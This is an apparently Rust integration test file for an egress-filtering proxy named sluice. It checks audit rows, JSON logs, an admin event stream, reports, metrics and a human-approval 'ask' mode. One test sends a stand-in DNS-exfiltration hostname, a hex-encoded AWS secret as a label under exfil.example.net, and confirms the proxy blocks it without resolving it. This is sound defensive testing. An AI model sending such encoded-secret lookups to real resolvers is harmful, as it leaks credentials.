//! The audit trail, live and afterwards: what each access row says, rows
//! on stdout and JSON logs for container log collectors, the admin API's
//! event stream, `report --since`, `--follow` and `--html`, and the
//! metrics an operator alerts on.

use std::io::{BufRead, BufReader, Read};
use std::process::{Command, Stdio};
use std::sync::mpsc;
use std::time::Duration;

use crate::util::*;

#[test]
fn a_refused_row_carries_the_sentence_the_client_got() {
    let up = Upstream::start();
    let p = up.port();
    let (_dns, s) = pkgs_sluice(&up, "", "");
    let out = curl(&[
        "-s",
        "-x",
        &s.proxy(0),
        &format!("http://other.example.com:{p}/x"),
    ]);
    let body = String::from_utf8_lossy(&out.stdout).to_string();
    let row = last_row_for(&s, "t", "other.example.com");
    let reason = row["reason"].as_str().unwrap();
    assert!(
        body.contains(reason),
        "the body says {body:?}, the row {reason:?}"
    );
    assert!(row["addr"].is_null(), "nothing was dialled");
    assert_eq!(row["v"], 2);
    assert_eq!(get(&s, &format!("http://pkgs.example.com:{p}/x")), 200);
    let ok = last_row_for(&s, "t", "pkgs.example.com");
    assert_eq!(ok["addr"], format!("127.0.0.1:{p}"));
    assert!(ok["reason"].is_null());
}

/// One id a connection: the `conn` of its rows is the `conn` of the
/// tracing span its log lines are written in.
#[test]
fn a_rows_conn_is_its_connection_spans_id() {
    let up = Upstream::start();
    let p = up.port();
    let (_dns, s) = pkgs_sluice(&up, "", "");
    // A few connections first, so the ids are not equal by luck.
    for _ in 0..3 {
        assert_eq!(get(&s, &format!("http://pkgs.example.com:{p}/x")), 200);
    }
    for host in ["first.example.com", "second.example.com"] {
        let a = via(&s, &format!("http://{host}:{p}/x"), &[]);
        assert_refused(&a, 403, "not-allowed");
    }
    let span_conn = |line: &str| -> u64 {
        let i = line
            .find("conn{conn=")
            .unwrap_or_else(|| panic!("no span in {line}"));
        let digits: String = line[i + 10..]
            .chars()
            .take_while(char::is_ascii_digit)
            .collect();
        digits.parse().unwrap()
    };
    let mut ids = Vec::new();
    for host in ["first.example.com", "second.example.com"] {
        let row = last_row_for(&s, "t", host);
        let line = s.wait_line(|l| l.contains("refused:") && l.contains(host));
        assert!(line.contains("task=t"), "the span names the task: {line}");
        let id = span_conn(&line);
        assert_eq!(row["conn"].as_u64(), Some(id), "{line}\n{row}");
        ids.push(id);
    }
    assert_ne!(ids[0], ids[1], "each connection its own id");
    assert_eq!(
        up.request_count(),
        3,
        "the refused requests reached nothing"
    );
}

#[test]
fn rows_on_stdout_and_logs_as_json_for_container_log_collectors() {
    let up = Upstream::start();
    let p = up.port();
    let dns = FakeDns::start();
    let b = SluiceBuilder::new(&dns)
        .allow(&[format!("pkgs.example.com:{p}")])
        .top("[logs]\nstdout = true");
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("sluice.toml");
    let port = free_port();
    std::fs::write(
        &config,
        b.config()
            .replace("tcp:127.0.0.1:0", &format!("tcp:127.0.0.1:{port}")),
    )
    .unwrap();
    let mut child = Command::new(bin())
        .args(["run", "--config"])
        .arg(&config)
        .env("SLUICE_LOG_FORMAT", "json")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let (tx, rx) = mpsc::channel::<(bool, String)>();
    let (stdout, stderr) = (child.stdout.take().unwrap(), child.stderr.take().unwrap());
    for (is_stdout, pipe) in [
        (true, Box::new(stdout) as Box<dyn Read + Send>),
        (false, Box::new(stderr)),
    ] {
        let tx = tx.clone();
        std::thread::spawn(move || {
            for l in BufReader::new(pipe).lines().map_while(Result::ok) {
                let _ = tx.send((is_stdout, l));
            }
        });
    }
    let proxy = format!("http://127.0.0.1:{port}");
    let reached = poll(Duration::from_secs(20), || {
        (get_via(&proxy, &format!("http://pkgs.example.com:{p}/x")) == 200).then_some(())
    });
    // Until the row shows on stdout (bounded), keeping every line seen.
    let mut lines: Vec<(bool, String)> = Vec::new();
    let row = poll(Duration::from_secs(10), || {
        lines.extend(rx.try_iter());
        lines
            .iter()
            .filter(|(out, _)| *out)
            .find_map(|(_, l)| serde_json::from_str::<serde_json::Value>(l).ok())
    });
    let _ = child.kill();
    let _ = child.wait();
    assert!(reached.is_some(), "sluice served");
    let row = row.unwrap_or_else(|| panic!("no row on stdout: {lines:#?}"));
    assert_eq!(
        (row["host"].as_str(), row["decision"].as_str()),
        (Some("pkgs.example.com"), Some("allow"))
    );
    let logs: Vec<&String> = lines
        .iter()
        .filter(|(out, _)| !*out)
        .map(|(_, l)| l)
        .collect();
    assert!(!logs.is_empty());
    for l in logs {
        let v: serde_json::Value = serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}"));
        assert!(
            v["level"].is_string() && v["fields"]["message"].is_string(),
            "{l}"
        );
    }
}

#[test]
fn the_admin_api_streams_decisions_as_server_sent_events() {
    let up = Upstream::start();
    let p = up.port();
    let dns = FakeDns::start();
    let s = SluiceBuilder::new(&dns)
        .allow(&[format!("pkgs.example.com:{p}")])
        .admin()
        .start();
    let (code, _) = s.admin_call("GET", "/events?task=nope");
    assert_eq!(code, 404);
    let mut stream = Command::new("curl")
        .args([
            "-sN",
            "-m",
            "20",
            &format!("http://{}/events?task=t", s.admin()),
        ])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let (tx, rx) = mpsc::channel::<String>();
    let out = stream.stdout.take().unwrap();
    std::thread::spawn(move || {
        for l in BufReader::new(out).lines().map_while(Result::ok) {
            let _ = tx.send(l);
        }
    });
    // The stream's greeting says it is open.
    assert_eq!(
        rx.recv_timeout(Duration::from_secs(10)).unwrap(),
        ": sluice decisions"
    );
    assert_eq!(get(&s, &format!("http://other.example.com:{p}/x")), 403);
    let mut event = None;
    while let Ok(l) = rx.recv_timeout(Duration::from_secs(10)) {
        if let Some(data) = l.strip_prefix("data: ") {
            event = Some(serde_json::from_str::<serde_json::Value>(data).unwrap());
            break;
        }
    }
    let _ = stream.kill();
    let _ = stream.wait();
    let event = event.expect("a decision event");
    assert_eq!(
        (event["host"].as_str(), event["rule"].as_str()),
        (Some("other.example.com"), Some("not-allowed"))
    );
}

#[test]
fn report_since_follow_and_html() {
    let up = Upstream::start();
    let p = up.port();
    let (_dns, s) = pkgs_sluice(&up, "", "");
    assert_eq!(get(&s, &format!("http://pkgs.example.com:{p}/old")), 200);
    s.access_log("t", 1);
    // A feed started now shows what happens from now on.
    let mut follow = Command::new(bin())
        .args(["report", "--follow", "--state"])
        .arg(s.state())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let (tx, rx) = mpsc::channel::<String>();
    let out = follow.stdout.take().unwrap();
    std::thread::spawn(move || {
        for l in BufReader::new(out).lines().map_while(Result::ok) {
            let _ = tx.send(l);
        }
    });
    // Until the feed has read the folder, new rows may count as history:
    // wait for its first line by making requests until one shows.
    let mut first = None;
    for _ in 0..20 {
        assert_eq!(get(&s, &format!("http://other.example.com:{p}/new")), 403);
        if let Ok(l) = rx.recv_timeout(Duration::from_millis(500)) {
            first = Some(l);
            break;
        }
    }
    let _ = follow.kill();
    let _ = follow.wait();
    let first = first.expect("the feed printed the refusal");
    assert!(
        first.contains("t  deny        GET http://other.example.com:")
            && first.contains("not-allowed: other.example.com:"),
        "{first}"
    );
    assert!(
        !first.contains("/old"),
        "history is not replayed without --since"
    );
    // --since: a time after the first request leaves it out.
    let rows = s.access_log("t", 2);
    let after_old = rows[1]["ts"].as_str().unwrap().to_string();
    let r = s.report(&["--since", &after_old, "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&r.stdout).unwrap();
    assert!(
        v.as_array()
            .unwrap()
            .iter()
            .all(|d| d["host"] != "pkgs.example.com"),
        "{v:#}"
    );
    let r = s.report(&["--since", "1h", "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&r.stdout).unwrap();
    assert!(
        v.as_array()
            .unwrap()
            .iter()
            .any(|d| d["host"] == "pkgs.example.com"),
        "{v:#}"
    );
    assert_eq!(
        s.report(&["--since", "yesterday-ish"]).status.code(),
        Some(2)
    );
    // --html: one page, no scripts, nothing fetched.
    let page = s.dir.path().join("report.html");
    let r = s.report(&["--html", page.to_str().unwrap()]);
    assert_eq!(
        r.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&r.stderr)
    );
    let html = std::fs::read_to_string(&page).unwrap();
    assert!(html.starts_with("<!DOCTYPE html>") && html.contains("other.example.com"));
    assert!(
        !html.contains("<script") && !html.contains("src="),
        "self-contained"
    );
}

#[test]
fn metrics_name_the_build_the_last_reload_and_forget_removed_tasks() {
    let dns = FakeDns::start();
    let b = SluiceBuilder::new(&dns).admin();
    let s = b.start();
    let base = s.pin(&b.config());
    let with_task = format!("{base}\n[[task]]\nid = \"second\"\nlisten = [\"tcp:127.0.0.1:0\"]\n");
    s.write_config(&with_task);
    let (code, body) = s.admin_call("POST", "/reload");
    assert_eq!(code, 200, "{body}");
    let (_, metrics) = s.admin_call("GET", "/metrics");
    assert!(
        metrics.contains(&format!(
            "sluice_build_info{{version=\"{}\"}} 1",
            env!("CARGO_PKG_VERSION")
        )),
        "{metrics}"
    );
    assert!(
        metrics.contains("sluice_connections_active{task=\"second\"}"),
        "{metrics}"
    );
    let loaded = s.metric("sluice_config_last_reload_success_timestamp_seconds");
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    assert!(loaded + 600 > now && loaded <= now, "{loaded} vs {now}");
    s.write_config(&base);
    let (code, body) = s.admin_call("POST", "/reload");
    assert_eq!(code, 200, "{body}");
    let (_, metrics) = s.admin_call("GET", "/metrics");
    assert!(!metrics.contains("task=\"second\""), "{metrics}");
}

/// sluice with `allow_mode = "ask"` and an admin API on a fixed port (so
/// `sluice allow --config` finds it).
pub(crate) fn ask_sluice(up: &Upstream, timeout_secs: u64) -> (FakeDns, Sluice) {
    let dns = FakeDns::start();
    let s = SluiceBuilder::new(&dns)
        .allow(&[format!("pkgs.example.com:{}", up.port())])
        .task_extra(&format!(
            "allow_mode = \"ask\"\nask_timeout_secs = {timeout_secs}"
        ))
        .top(&format!(
            "[admin]\nlisten = \"tcp:127.0.0.1:{}\"",
            free_port()
        ))
        .start();
    (dns, s)
}

/// `sluice allow|deny --config … DEST`, with no `--task`: the config has
/// one task.
fn say(s: &Sluice, verb: &str, dest: &str) -> std::process::Output {
    Command::new(bin())
        .args([verb, "--config"])
        .arg(&s.config)
        .arg(dest)
        .output()
        .unwrap()
}

/// Starts a GET through sluice in a thread; its status arrives on the
/// channel.
fn get_later(s: &Sluice, url: String) -> mpsc::Receiver<u16> {
    let (tx, rx) = mpsc::channel();
    let proxy = s.proxy(0);
    std::thread::spawn(move || {
        let _ = tx.send(get_via(&proxy, &url));
    });
    rx
}

/// Waits (bounded) for `asked.jsonl` to hold a question about `host`.
pub(crate) fn asked(s: &Sluice, host: &str) -> serde_json::Value {
    wait_for(
        &format!("a question about {host}"),
        Duration::from_secs(15),
        || {
            read_rows(&s.task_file("t", "asked.jsonl"))
                .into_iter()
                .find(|q| q["host"] == host)
        },
    )
}

#[test]
fn ask_mode_holds_a_request_until_a_person_answers() {
    let up = Upstream::start();
    let p = up.port();
    let (_dns, mut s) = ask_sluice(&up, 30);
    // Allowed: no question.
    assert_eq!(get(&s, &format!("http://pkgs.example.com:{p}/a")), 200);
    // Not on the list: held until `sluice allow`.
    let waiting = get_later(&s, format!("http://other.example.com:{p}/held"));
    let q = asked(&s, "other.example.com");
    let question = q["question"].as_str().unwrap();
    assert!(waiting.try_recv().is_err(), "still held");
    assert!(up.requests().iter().all(|r| r.uri != "/held"));
    // The answer is the command the question names, pasted as printed
    // into a shell in another folder.
    let pasted = question
        .split_once("answer with: ")
        .and_then(|(_, c)| c.split_once(" (or"))
        .map(|(c, _)| c)
        .unwrap_or_else(|| panic!("no command in {question}"));
    assert!(pasted.starts_with("sluice allow --config /"), "{pasted}");
    let bin_dir = std::path::Path::new(bin()).parent().unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    let said = Command::new("sh")
        .args(["-c", pasted])
        .env(
            "PATH",
            format!("{}:{}", bin_dir.display(), std::env::var("PATH").unwrap()),
        )
        .current_dir(elsewhere.path())
        .output()
        .unwrap();
    assert_eq!(
        said.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&said.stderr)
    );
    assert_eq!(waiting.recv_timeout(Duration::from_secs(15)).unwrap(), 200);
    assert!(up.requests().iter().any(|r| r.uri == "/held"));
    let grants = wait_rows(&s.task_file("t", "granted.jsonl"), 1);
    assert_eq!(grants.len(), 1, "{grants:#?}");
    assert_eq!(
        (grants[0]["host"].as_str(), grants[0]["port"].as_u64()),
        (Some("other.example.com"), Some(u64::from(p)))
    );
    assert_eq!(grants[0]["asked_by"], format!("other.example.com:{p}"));
    // Refused by a person.
    let waiting = get_later(&s, format!("http://docs.example.com:{p}/no"));
    asked(&s, "docs.example.com");
    assert_eq!(
        say(&s, "deny", &format!("docs.example.com:{p}"))
            .status
            .code(),
        Some(0)
    );
    assert_eq!(waiting.recv_timeout(Duration::from_secs(15)).unwrap(), 403);
    let row = last_row_for(&s, "t", "docs.example.com");
    assert!(
        row["reason"]
            .as_str()
            .unwrap()
            .contains("a person refused it"),
        "{row}"
    );
    // A Host header naming another host is a mismatch, never a question.
    let raw_answer = raw(
        &s.proxy_addr(),
        format!("GET http://mismatch.example.com:{p}/ HTTP/1.1\r\nHost: other.example.com:{p}\r\nConnection: close\r\n\r\n").as_bytes(),
    );
    let a = parse_http(&raw_answer).unwrap();
    assert_eq!(
        a.headers.get("sluice-rule").map(String::as_str),
        Some("host-mismatch")
    );
    // A request whose client gives up leaves no question behind: the next
    // request asks anew.
    let gave_up = curl(&[
        "-s",
        "-m",
        "1",
        "-x",
        &s.proxy(0),
        &format!("http://private.example.com:{p}/"),
    ]);
    assert!(!gave_up.status.success());
    let waiting = get_later(&s, format!("http://private.example.com:{p}/again"));
    wait_for("a second question", Duration::from_secs(15), || {
        (read_rows(&s.task_file("t", "asked.jsonl"))
            .iter()
            .filter(|q| q["host"] == "private.example.com")
            .count()
            == 2)
            .then_some(())
    });
    assert_eq!(
        say(&s, "deny", &format!("private.example.com:{p}"))
            .status
            .code(),
        Some(0)
    );
    assert_eq!(waiting.recv_timeout(Duration::from_secs(15)).unwrap(), 403);
    // Deny withdraws a grant, and is remembered: no new question.
    assert_eq!(
        say(&s, "deny", &format!("other.example.com:{p}"))
            .status
            .code(),
        Some(0)
    );
    assert_eq!(
        get(&s, &format!("http://other.example.com:{p}/withdrawn")),
        403
    );
    assert_eq!(
        read_rows(&s.task_file("t", "asked.jsonl"))
            .iter()
            .filter(|q| q["host"] == "other.example.com")
            .count(),
        1
    );
    assert_eq!(
        say(&s, "allow", &format!("other.example.com:{p}"))
            .status
            .code(),
        Some(0)
    );
    // IP literals are never asked about.
    assert_eq!(get(&s, &format!("http://127.0.0.1:{p}/ip")), 403);
    assert!(read_rows(&s.task_file("t", "asked.jsonl"))
        .iter()
        .all(|q| q["host"] != "127.0.0.1"));
    // The grant outlives a restart (once written: grant, withdrawal, grant).
    wait_rows(&s.task_file("t", "granted.jsonl"), 3);
    s.kill_and_restart();
    assert_eq!(get(&s, &format!("http://other.example.com:{p}/again")), 200);
    assert_eq!(
        read_rows(&s.task_file("t", "asked.jsonl"))
            .iter()
            .filter(|q| q["host"] == "other.example.com")
            .count(),
        1,
        "asked once"
    );
}

#[test]
fn ask_mode_refuses_when_nobody_answers() {
    let up = Upstream::start();
    let p = up.port();
    let (dns, s) = ask_sluice(&up, 1);
    assert_eq!(get(&s, &format!("http://paste.example.com:{p}/x")), 403);
    // Round 3, finding 5: nothing is resolved for a name nobody allowed
    // (a lookup carries the name to a DNS server): not for a refused or
    // unanswered question, a CONNECT, or a hex-encoded secret as a label.
    let exfil = "4157535f5345435245543d78.exfil.example.net";
    assert_eq!(get(&s, &format!("http://{exfil}:{p}/")), 403);
    let connect = format!("CONNECT {exfil}:443 HTTP/1.1\r\n\r\n");
    assert_refused(
        &connect_refusal(&s.proxy_addr(), connect.as_bytes()),
        403,
        "not-allowed",
    );
    let asked_about = asked(&s, exfil);
    assert_eq!(asked_about["addrs"], serde_json::json!([]), "{asked_about}");
    assert_eq!(dns.queries(), 0, "no name was resolved before an answer");
    let row = last_row_for(&s, "t", "paste.example.com");
    assert_eq!(row["rule"], "not-allowed");
    assert!(
        row["reason"]
            .as_str()
            .unwrap()
            .contains("nobody answered within 1 s"),
        "{row}"
    );
    assert_eq!(up.request_count(), 0);
}

#[cfg(feature = "system-tests")] // chromium, unshare
/// Headless Chromium (Debian's package) in a network namespace of its own
/// with no network at all: whatever the browser itself tries, nothing can
/// leave, and its net log shows what the page asked for.
fn chromium(
    args: &[&str],
    page: &std::path::Path,
    profile: &std::path::Path,
) -> std::process::Output {
    Command::new("unshare")
        .args([
            "-rn",
            "chromium",
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
        ])
        .args([
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--no-first-run",
        ])
        .arg(format!("--user-data-dir={}", profile.display()))
        .args(args)
        .arg(format!("file://{}", page.display()))
        .output()
        .expect("chromium runs (the CI script installs Debian's package)")
}

#[cfg(feature = "system-tests")] // chromium, unshare
#[test]
fn the_html_report_renders_in_a_browser_and_asks_for_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let page = dir.path().join("report.html");
    let fixture =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/report-state");
    let out = Command::new(bin())
        .args(["report", "--state"])
        .arg(&fixture)
        .arg("--html")
        .arg(&page)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let netlog = dir.path().join("net.json");
    let shown = chromium(
        &["--dump-dom", &format!("--log-net-log={}", netlog.display())],
        &page,
        &dir.path().join("profile"),
    );
    let dom = String::from_utf8_lossy(&shown.stdout);
    // The destinations, a refused row, and a provenance edge, as rendered.
    assert!(dom.contains("<code>registry.npmjs.org:443</code>"), "{dom}");
    assert!(
        dom.contains("<tr class=\"refused\"><td><code>paste.example:443</code>"),
        "{dom}"
    );
    assert!(
        dom.contains("<line x1=\"400\"") && dom.contains("1 refused (POST"),
        "{dom}"
    );
    assert!(
        dom.contains("<code>https://evil.example/</code> named <code>paste.example</code>"),
        "{dom}"
    );
    // The page named no URL the browser fetched: the net log holds only
    // the browser's own background requests, none for a host in the page.
    let log = std::fs::read_to_string(&netlog).unwrap_or_default();
    assert!(!log.is_empty(), "chromium wrote its net log");
    for host in [
        "evil.example",
        "paste.example",
        "registry.npmjs.org",
        "gist.example",
        "pypi.example",
    ] {
        assert!(
            !log.contains(&format!("//{host}")),
            "the page asked for {host}"
        );
    }
}
